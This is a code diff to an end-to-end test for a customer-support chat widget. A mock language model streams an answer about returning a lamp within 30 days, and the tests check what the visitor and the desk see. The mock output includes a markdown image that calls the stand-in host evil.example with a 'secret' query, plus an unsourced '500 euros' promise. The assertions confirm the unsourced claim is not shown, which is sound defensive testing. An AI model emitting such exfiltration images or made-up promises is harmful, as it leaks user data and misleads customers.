@@ -47,9 +47,15 @@ const model = createServer((request, response) => {
       if (/return/i.test(question) && found) {
         say(`SURE: 96\nYou can return a lamp within 30 days of delivery [${found.id}]. `)
         say('![](https://evil.example/?q=secret) And we give you 500 euros on top! ')
-        await new Promise((ok) => {
-          release = ok
-        })
+        let on = true
+        release = () => {
+          on = false
+        }
+        for (let n = 1; on; n++) {
+          // nobody waits for an answer that has stopped growing
+          await new Promise((ok) => setTimeout(ok, 500))
+          if (n % 6 === 0) say(`Keep what belongs to lamp number ${n} [${found.id}]. `)
+        }
         say(`Write to us and we send a label [${found.id}].`)
       } else say('SURE: 0\n')
     }
@@ -117,18 +123,18 @@ try {
     return { page, frame, say }
   }
   const clara = await visitor('clara')
+  await owner.goto(s.url + '/app/inbox/all')
   await clara.say('How many days do I have to return a lamp?')
   await clara.frame.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor()
   await s.shot(clara.page, 'growing')
   assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source is shown')
-  await owner.goto(s.url + '/app/inbox/all')
   await owner.getByText('How many days do I have to return a lamp?').first().click()
   await owner.locator('.growing').getByText('You can return a lamp within 30 days of delivery.').waitFor()
   await s.shot(owner, 'growing-desk')
   release()
   await clara.frame.locator('.bubble').getByText('Write to us and we send a label.').last().waitFor()
   await clara.frame.locator('.sources').getByText('Return a lamp').first().waitFor()
-  await until('the growing answer is gone', async () => (await clara.frame.locator('.growing').count()) === 0)
+  await clara.frame.locator('.growing').waitFor({ state: 'detached' })
   assert.equal(await clara.frame.locator('.bubble').count(), 2, 'one question, one answer')
   assert(!(await clara.frame.locator('.thread').innerText()).includes('500'), 'what has no source was sent')
   await s.shot(clara.page, 'cited')
@@ -224,7 +230,7 @@ try {
   const wanda = await visitor('wanda')
   for (const n of [1, 2, 3]) {
     await wanda.say(`How many days do I have to return a lamp, please? (${n})`)
-    await until('an answer', async () => (await wanda.frame.locator('.m:not(.me) .bubble').count()) === n)
+    await until('an answer', async () => (await wanda.frame.locator('.m:not(.me, .growing) .bubble').count()) >= n)
   }
   await owner.goto(s.url + '/app/settings/ai')
   await part('Language model').getByText('Left alone', { exact: true }).waitFor()
